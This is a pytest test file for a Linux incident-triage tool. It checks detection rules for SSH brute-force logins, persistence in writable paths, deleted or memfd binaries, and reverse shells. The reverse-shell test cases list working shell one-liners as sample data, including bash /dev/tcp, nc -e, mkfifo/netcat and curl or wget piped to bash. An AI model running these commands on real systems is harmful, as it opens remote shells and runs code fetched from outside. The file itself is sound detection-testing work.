"""The Linux findings rules on typed records: each fires on what it is for and stays quiet on the
look-alikes (too few failures, failures after the login, a .bashrc reading ~/.dircolors ...)."""

from __future__ import annotations

from datetime import UTC, datetime, timedelta

import pytest

from triage.analyze.findings import Context
from triage.analyze.linux_findings import (
    reverse_shell,
    rule_deleted_binary_running,
    rule_persistence_writable,
    rule_ssh_brute_force_success,
)
from triage.model import Source
from triage.parsers.linux.live import LiveProcess
from triage.parsers.linux.logevents import LogEvent
from triage.parsers.linux.login_hooks import LoginHook

T0 = datetime(2026, 1, 1, tzinfo=UTC)


def ev(cat: str, minute: int, ip: str = "203.0.113.5", user: str = "root") -> LogEvent:
    return LogEvent(source=Source(bundle_path="files/root/var/log/auth.log", locator=f"line {minute}"),
                    timestamp=T0 + timedelta(minutes=minute), time_logged="", zone="UTC", year_inferred=False,
                    hostname="h", program="sshd", pid=1, category=cat, user=user, source_ip=ip)


def findings(rule, records):
    return list(rule(Context.build(records, "h")))


def test_brute_force_needs_enough_failures_before_the_login():
    fails = [ev("ssh_failed", i) for i in range(5)]
    assert len(findings(rule_ssh_brute_force_success, [*fails, ev("ssh_accepted", 10)])) == 1
    assert findings(rule_ssh_brute_force_success, [*fails[:4], ev("ssh_accepted", 10)]) == []
    assert findings(rule_ssh_brute_force_success, [ev("ssh_accepted", -1), *fails]) == []      # login came first
    assert findings(rule_ssh_brute_force_success, [*fails, ev("ssh_accepted", 10, ip="192.0.2.1")]) == []
    late = [ev("ssh_failed", i) for i in range(5)] + [ev("ssh_accepted", 60 * 25 + 4)]            # > 24 h later
    assert findings(rule_ssh_brute_force_success, late) == []


@pytest.mark.parametrize("cmd", [
    "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1", "nc -e /bin/sh 198.51.100.7 9001", "ncat -c bash h 1",
    "python3 -c 'import pty; pty.spawn(\"/bin/bash\")'", "curl -s http://x/i.sh | sudo bash",
    "wget -qO- http://x/a | sh", "socat exec:'bash -li',pty tcp:h:1", "echo Zm9v | base64 -d | bash",
    "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc h 1 >/tmp/f"])
def test_reverse_shell_lines(cmd):
    assert reverse_shell(cmd)


@pytest.mark.parametrize("cmd", ["curl -O http://x/file.tar.gz", "nc -zv host 22", "python3 -m pytest",
                                 "ls /dev/tcp", "bash -i", "wget http://x/a.sh && less a.sh"])
def test_not_reverse_shell(cmd):
    assert not reverse_shell(cmd)


def hook(command: str, hook_kind: str) -> LoginHook:
    return LoginHook(source=Source(bundle_path="files/root/home/a/.bashrc", locator="line 1"), path="/home/a/.bashrc",
                     hook=hook_kind, user="a", line=1, command=command, file_modified=None)


def test_persistence_paths():
    assert findings(rule_persistence_writable, [hook('eval "$(dircolors -b ~/.dircolors)"', "shell-start")]) == []
    (f,) = findings(rule_persistence_writable, [hook("/dev/shm/.x &", "shell-start")])
    assert f.severity == "high"
    (f,) = findings(rule_persistence_writable, [hook("/home/a/.local/bin/agent", "boot")])
    assert f.severity == "medium"
    assert findings(rule_persistence_writable, [hook("/usr/sbin/sshd", "boot")]) == []


def proc(pid: int, exe: str, deleted: bool) -> LiveProcess:
    return LiveProcess(source=Source(bundle_path="volatile/processes.json", locator=f"data[{pid}]"), pid=pid, ppid=1,
                       name="x", exe=exe, exe_deleted=deleted, cmdline=exe, user="root", started=None, exe_sha256="ab",
                       captured=None)


def test_deleted_binaries_grouped_per_image():
    out = findings(rule_deleted_binary_running, [proc(1, "/tmp/x", True), proc(2, "/tmp/x", True),
                                                 proc(3, "/memfd:a", True), proc(4, "/usr/bin/y", False)])
    assert sorted((f.title, f.attack) for f in out) == [
        ("1 process(es) runs from an anonymous memory file (memfd)", ("T1070.004", "T1620")),
        ("2 process(es) runs a deleted executable", ("T1070.004",))]
